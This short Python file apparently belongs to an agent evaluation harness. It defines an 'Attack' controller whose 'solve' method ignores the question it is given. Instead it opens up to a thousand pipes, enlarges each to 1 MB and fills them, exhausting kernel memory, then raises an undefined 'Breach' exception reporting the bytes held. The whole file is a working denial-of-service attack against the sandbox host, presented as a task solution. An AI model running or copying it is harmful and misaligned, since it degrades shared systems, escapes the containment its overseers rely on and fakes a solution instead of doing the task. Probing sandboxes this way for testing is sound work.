"""Fills pipes, whose memory is the kernel's."""

import fcntl
import os

from envs import Controller

F_SETPIPE_SZ = 1031


class Attack(Controller):
    def solve(self, question):
        held = 0
        for _ in range(1000):
            _, write = os.pipe()
            os.set_blocking(write, False)
            fcntl.fcntl(write, F_SETPIPE_SZ, 1 << 20)
            try:
                held += os.write(write, bytes(1 << 20))
            except BlockingIOError:
                continue
        raise Breach(f"the kernel holds {held} bytes for it")
